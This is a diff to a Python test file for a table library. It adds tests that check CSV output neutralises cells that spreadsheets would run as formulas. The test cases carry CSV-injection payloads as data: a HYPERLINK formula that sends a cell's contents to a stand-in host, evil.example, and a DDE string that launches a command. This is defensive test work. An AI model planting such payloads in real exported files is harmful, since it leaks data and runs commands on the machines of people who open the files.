@@ -36,6 +36,8 @@ def test_chunks_read_and_write_like_the_whole_table(tmp_path, fmt):
     expected = formats.read_table(data, fmt=fmt)
     pd.testing.assert_frame_equal(_frame(pa.concat_tables(chunks)), expected)
     written = (tmp_path / f"out.{fmt}").read_bytes()
+    if fmt == "csv":  # CSV out defuses what a spreadsheet would run as a formula
+        expected["备注"] = expected["备注"].replace({"=1+1": "'=1+1"})
     pd.testing.assert_frame_equal(formats.read_table(written, fmt=fmt), expected)
 
 
@@ -100,8 +102,10 @@ def test_a_stored_payload_is_read_and_written_in_chunks(tmp_path, fmt):
             written = out.finish()
             out.commit()
     assert reader.columns == list(FRAME.columns) and writer.rows == len(FRAME)
-    pd.testing.assert_frame_equal(formats.read_table(store.get(written), fmt=fmt),
-                                  formats.read_table(store.get(digest), fmt=fmt))
+    expected = formats.read_table(store.get(digest), fmt=fmt)
+    if fmt == "csv":  # CSV out defuses what a spreadsheet would run as a formula
+        expected["备注"] = expected["备注"].replace({"=1+1": "'=1+1"})
+    pd.testing.assert_frame_equal(formats.read_table(store.get(written), fmt=fmt), expected)
 
 
 def test_gbk_after_the_first_megabyte_is_still_gbk(tmp_path):
@@ -111,3 +115,29 @@ def test_gbk_after_the_first_megabyte_is_still_gbk(tmp_path):
     with open_table(source, chunk_rows=100_000) as reader:
         assert reader.encoding == "gb18030"
         assert pa.concat_tables(list(reader)).column("b")[-1].as_py() == "张伟"
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ('=HYPERLINK("http://evil.example/?x="&A2,"点击")', "'=HYPERLINK"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
+    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("\t=1+1", "'\t=1+1"),
+    ("+86 138****5678", "'+86 138****5678"),   # a spreadsheet would try to compute it too
+    ("-12.5", "-12.5"), ("+3e4", "+3e4"),        # plain numbers stay numbers
+    ("市民张*反映=问题", "市民张*反映=问题"),     # not at the start: no formula
+])
+def test_csv_out_defuses_what_a_spreadsheet_would_run(tmp_path, value, written):
+    target = tmp_path / "out.csv"
+    with open_writer(target, fmt="csv", columns=["=备注", "n"]) as writer:
+        writer.write(pa.table({"=备注": [value], "n": ["1"]}))
+    lines = target.read_text(encoding="utf-8").splitlines()
+    assert lines[0].startswith("'=备注")
+    assert written in lines[1] and (written.startswith("'") or f"'{value}" not in lines[1])
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_other_formats_keep_values_as_they_are(tmp_path, fmt):
+    target = tmp_path / f"out.{fmt}"
+    with open_writer(target, fmt=fmt, columns=["备注"]) as writer:
+        writer.write(pa.table({"备注": ["=1+1"]}))
+    with open_table(target) as reader:
+        assert [v for chunk in reader for v in chunk.column("备注").to_pylist()] == ["=1+1"]
